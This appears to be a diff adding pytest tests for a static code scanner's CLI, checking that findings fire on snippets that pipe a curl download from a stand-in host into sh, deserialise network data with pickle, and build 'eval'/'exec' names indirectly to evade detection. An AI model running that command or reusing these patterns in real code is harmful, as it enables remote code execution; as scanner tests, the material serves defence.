@@ -1,0 +1,62 @@
+"""Behaviours spread over several statements, seen through the CLI: constants through loops, lambdas,
+helper parameters, methods of a class the file defines (high+ findings, and their look-alikes quiet)."""
+from __future__ import annotations
+
+import json
+
+import pytest
+
+from codescan.cli import main
+
+
+def _high(capsys, tmp_path, name: str, text: str) -> set[str]:
+    target = tmp_path / name
+    target.write_text(text, encoding="utf-8")
+    main(["scan", str(target), "--format", "json", "--no-progress"])
+    findings = json.loads(capsys.readouterr().out)["findings"]
+    return {f["rule_id"] for f in findings if f["severity"] in ("high", "critical")}
+
+
+LAMBDA_ON_SELF = """import subprocess
+class Runner:
+    def __init__(self):
+        self.fn = lambda c: subprocess.check_output(c, shell=True)
+    def go(self, c):
+        return self.fn(c)
+Runner().go("{command}")
+"""
+
+
+def test_constant_command_through_a_lambda_on_self_and_a_method(capsys, tmp_path):
+    bad = _high(capsys, tmp_path, "r.py", LAMBDA_ON_SELF.format(command="curl http://x.example/i|sh"))
+    assert "shell-pipe-to-interpreter" in bad
+    assert "shell-pipe-to-interpreter" not in _high(capsys, tmp_path, "r2.py", LAMBDA_ON_SELF.format(command="ls -l"))
+
+
+SELF_ATTRIBUTE = """import pickle, requests
+class Cache:
+    def __init__(self, url):
+        self.blob = requests.get(url).content
+    def load(self):
+        return pickle.loads(self.blob)
+"""
+
+
+def test_self_attribute_carries_network_data(capsys, tmp_path):
+    assert "pickle-load" in _high(capsys, tmp_path, "c.py", SELF_ATTRIBUTE)
+
+
+@pytest.mark.parametrize("body", [
+    'n = ""\nfor c in ["e", "v", "a", "l"]:\n    n += c\ngetattr(builtins, n)(x)\n',
+    'n = "".join(reversed("lave"))\ngetattr(builtins, n)(x)\n',
+    'f = lambda a, b: a + b\ngetattr(builtins, f("ex", "ec"))(x)\n',
+    'def mk(x):\n    return "ev" + x\ngetattr(builtins, mk("al"))(x)\n',
+    'def mk(x="ev", y="al"):\n    return x + y\ngetattr(builtins, mk())(x)\n',
+])
+def test_builtin_exec_names_built_in_loops_and_helpers(capsys, tmp_path, body):
+    assert "indirect-builtin-exec-lookup" in _high(capsys, tmp_path, "b.py", "import builtins\n" + body)
+
+
+def test_a_parameter_rebound_inside_the_helper_is_not_the_argument(capsys, tmp_path):
+    body = 'def mk(x):\n    x = "pr"\n    return x + "int"\ngetattr(builtins, mk("ev"))(x)\n'
+    assert "indirect-builtin-exec-lookup" not in _high(capsys, tmp_path, "b.py", "import builtins\n" + body)
